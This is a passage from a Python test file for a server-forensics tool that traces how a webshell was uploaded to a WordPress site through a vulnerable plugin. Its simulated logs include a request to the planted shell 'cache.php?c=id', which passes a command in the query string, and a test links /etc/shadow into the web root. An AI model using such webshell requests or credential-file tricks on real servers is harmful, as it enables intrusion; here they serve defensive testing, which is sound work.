            *[f'192.0.2.{i % 250} - - [{self.clf(t)}] "POST /?p={i} HTTP/1.1" 200 1 "-" "-"'
              for i in range(300)],
            f'203.0.113.5 - - [{self.clf(t + 30)}] "GET /wp-content/uploads/2026/12/cache.php?c=id '
            f'HTTP/1.1" 200 20 "-" "python-requests"',
            f'192.0.2.1 - - [{self.clf(t + 7200)}] "GET /wp-content/uploads/2026/12/cache.php HTTP/1.1" '
            f'404 0 "-" "-"',  # outside the window
            "\x00\xff garbage " + "A" * 200000,  # hostile lines are skipped
            '203.0.113.5 - - [99/Foo/2026:00:00:00 +0000] "GET /x HTTP/1.1" 200 1 "-" "-"',
        ]
        spit(os.path.join(self.root, "var/log/nginx/access.log"), "\n".join(lines) + "\n")
        spit(os.path.join(self.root, "var/log/auth.log"),
             time.strftime("%b %e %H:%M:%S", time.gmtime(t - 600)) +
             " web01 sshd[77]: Accepted publickey for deploy from 192.0.2.44 port 50022 ssh2\n")
        for target in (f["fingerprint"], self.SHELL):
            j = self.incident(target)
            self.assertEqual(j["path"], self.SHELL)
            self.assertEqual(j["changed_at"], f["first_seen"])
            self.assertEqual(j["component"]["kind"], "wordpress-uploads")
            vs = {v["id"]: v for v in j["vulnerabilities"]}
            self.assertEqual(sorted(vs), ["CVE-2099-4001", "CVE-2099-4002"])
            self.assertEqual(vs["CVE-2099-4001"]["component"], "plugin contact-form-7 5.3.1")
            self.assertTrue(vs["CVE-2099-4001"]["unauthenticated"])
            self.assertEqual(vs["CVE-2099-4001"]["kind"], "upload")
            w = j["writer"]
            self.assertEqual((w["uid"], w["user"]), (33, "www-data"))
            self.assertTrue(w["exe"].endswith("python3") or "python" in w["comm"], w)
            reqs = [(r["address"], r["method"], r["uri"], r["status"], r["relation"],
                     r.get("component")) for r in j["requests"] if r["relation"] != "write"]
            self.assertEqual(reqs, [
                ("203.0.113.5", "POST", "/wp-admin/admin-ajax.php?action=wpcf7_upload", 200,
                 "component", "plugin contact-form-7 5.3.1"),
                ("198.51.100.20", "GET", "/wp-admin/admin-ajax.php?action=gal_search&q=shoes", 200,
                 "component", "plugin gallery 1.0"),
                ("203.0.113.5", "GET", "/wp-content/uploads/2026/12/cache.php?c=id", 200, "file",
                 None)])
            # the flood of writes is capped on its own, the nearest kept
            self.assertEqual(len([r for r in j["requests"] if r["relation"] == "write"]), 200)
            self.assertEqual(j["requests_left_out"], 101)
            self.assertEqual([(l["service"], l["user"], l["address"], l["success"]) for l in j["logins"]],
                             [("ssh", "deploy", "192.0.2.44", True)])
            self.assertIn("unauthenticated upload in plugin contact-form-7 5.3.1 (CVE-2099-4001): "
                          "POST /wp-admin/admin-ajax.php?action=wpcf7_upload from 203.0.113.5 "
                          "2 seconds before the file appeared, written by", j["probable_cause"])
            self.assertIn("(www-data)", j["probable_cause"])
            self.assertEqual(j["confidence"], "high")
            self.assertTrue(w["known"])
            self.assertTrue(any("cache.php?c=id" in e and "30 seconds after" in e for e in j["evidence"]),
                            j["evidence"])
        # The text view says the same to a person.
        p = mamori("--root", self.root, "--store", self.db, "--db", self.vdb, "--host", "web01",
                   "web", "incident", self.SHELL, "--no-journal", env=self.env, check=0)
        self.assertIn("Probable cause (high confidence): unauthenticated upload", p.stdout)
        self.assertIn("versions of the install's components as of scan #1", p.stdout)
        # A window that ends before the upload: it is no longer claimed, and the search to the
        # XSS-prone plugin (a GET: it wrote nothing) gives way to the posts the web server
        # answered that second.
        j = self.incident(self.SHELL, "--before", "1s")
        self.assertNotIn("CVE-2099-400", j["probable_cause"])
        self.assertTrue(j["probable_cause"].startswith("written by the web server"),
                        j["probable_cause"])
        self.assertEqual(j["confidence"], "medium")
        # A later fim check of the same change keeps who wrote it.
        mamori("--root", self.root, "--store", self.db, "--host", "web01", "-q", "fim", "check",
               env=self.env, check=0)
        j = self.incident(self.SHELL)
        self.assertEqual((j["writer"]["uid"], j["writer"]["user"]), (33, "www-data"))

    def test_a_file_written_by_a_login_session_names_the_login(self):
        import time
        theme = os.path.join(self.root, self.WP, "wp-content/themes/shop/functions.php")
        os.makedirs(os.path.dirname(theme))
        spit(theme, "<?php // edited\n")
        t = int(os.stat(theme).st_ctime)
        spit(os.path.join(self.root, "var/log/auth.log"),
             time.strftime("%b %e %H:%M:%S", time.gmtime(t - 240)) +
             " web01 sshd[77]: Accepted password for admin from 192.0.2.9 port 50022 ssh2\n")
        spit(os.path.join(self.root, "var/log/nginx/access.log"), "")
        j = self.incident("/" + self.WP + "/wp-content/themes/shop/functions.php")
        self.assertEqual(j["component"]["kind"], "wordpress-theme")
        self.assertEqual(j["changed_at"], time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t)))
        self.assertIn("ctime", j["changed_at_source"])
        self.assertFalse(j["writer"]["known"])
        self.assertIn("no fim watch finding names who wrote it", j["writer"]["why"])
        self.assertIn("possibly the ssh login of admin from 192.0.2.9 4 minutes before",
                      j["probable_cause"])
        self.assertEqual(j["confidence"], "low")

    def test_what_cannot_be_traced_is_said_and_bad_input_refused(self):
        j = self.incident("/" + self.WP + "/index.php")
        self.assertEqual(j["component"]["kind"], "wordpress-core")
        self.assertEqual(j["confidence"], "none")
        self.assertIn("not established", j["probable_cause"])
        self.assertIn("no logs found", " ".join(j["notes"]))
        p = self.incident("/var/www/html/gone.php", check=3)
        self.assertIn("not there and no finding names it: give the time it changed with --at", p.stderr)
        j = self.incident("/var/www/html/gone.php", "--at", "2026-12-01T00:00:00Z")
        self.assertEqual(j["changed_at"], "2026-12-01T00:00:00Z")
        self.assertIsNone(j["file"]["sha256"])
        p = self.incident("zzzz", check=2)
        self.assertIn("give an absolute path (inside --root) or a finding's fingerprint", p.stderr)
        p = self.incident("abcdef12", check=3)
        self.assertIn("abcdef12", p.stderr)
        p = self.incident("relative/x.php", check=2)
        self.assertIn("absolute path", p.stderr)
        p = self.incident(self.SHELL, "--before", "0", check=2)
        self.assertIn("--before 0:", p.stderr)
        j = self.incident("/var/www/html/gone.php", "--at", "2h")  # two hours ago
        self.assertEqual(j["changed_at_source"], "at")
        p = self.incident(self.SHELL, "--at", "yesterday", check=2)
        self.assertIn("--at yesterday", p.stderr)
        p = self.incident(self.SHELL, "--log", "/nonexistent.log", check=2)
        self.assertIn("no such file", p.stderr)
        # A symlink dropped in the web root is the file in question, never followed.
        os.symlink("/etc/shadow", os.path.join(self.root, self.WP, "wp-content/uploads/l.php"))
        j = self.incident("/" + self.WP + "/wp-content/uploads/l.php")
        self.assertIn("the path is a symbolic link", j["notes"])
        self.assertIsNone(j["file"]["sha256"])


class SkipLoggingResult(unittest.TextTestResult):
    """Writes every skip to $MAMORI_SKIP_LOG: under CI a skip that tests/allowed-skips.txt does
    not list fails the run (scripts/check-skips.py)."""

    def addSkip(self, test, reason):
        super().addSkip(test, reason)
        log = os.environ.get("MAMORI_SKIP_LOG")
        if log:
            name = test.id().split(".", 1)[1] if test.id().startswith("__main__.") else test.id()
            with open(log, "a") as f:
                f.write(f"cli:{name}\t{reason}\n")


if __name__ == "__main__":
    args = sys.argv[1:]
    mode = None
    if args and args[0] in ("--root-only", "--no-root"):
        mode = args.pop(0)
    loader = unittest.TestLoader()
    if args:
        suite = loader.loadTestsFromNames(args, sys.modules[__name__])
    else:
        suite = loader.loadTestsFromModule(sys.modules[__name__])

    def flat(s):
        for t in s:
            if isinstance(t, unittest.TestSuite):
                yield from flat(t)
            else:
                yield t

    def is_root(t):
        name = t.id().split(".", 1)[1]
        return any(name == r or name.startswith(r + ".") for r in ROOT_TESTS)
    tests = [t for t in flat(suite)
             if mode is None or (mode == "--root-only") == is_root(t)]
    runner = unittest.TextTestRunner(resultclass=SkipLoggingResult, verbosity=2)
    result = runner.run(unittest.TestSuite(tests))
    sys.exit(0 if result.wasSuccessful() else 1)
